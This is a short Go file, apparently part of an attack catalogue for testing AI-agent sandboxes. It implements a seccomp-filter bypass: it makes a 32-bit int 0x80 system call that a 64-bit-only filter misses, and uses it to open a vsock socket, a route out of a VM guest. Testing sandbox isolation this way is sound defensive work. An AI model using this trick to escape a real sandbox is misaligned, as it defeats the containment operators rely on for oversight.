package main

import (
	"golang.org/x/sys/unix"

	"github.com/agentenv/agentenv/internal/attack/catalogue"
)

// int80 makes a system call by the table of 32-bit programs. A filter that
// compares only the numbers of the 64-bit table does not see it.
func int80(number, a, b, c uintptr) int32

// vsockByTable32 makes a vsock socket; 359 is socket in the 32-bit table.
func vsockByTable32(catalogue.Targets) (string, error) {
	if res := int80(359, unix.AF_VSOCK, unix.SOCK_STREAM, 0); res < 0 {
		return "", unix.Errno(-res)
	}
	return "made", nil
}
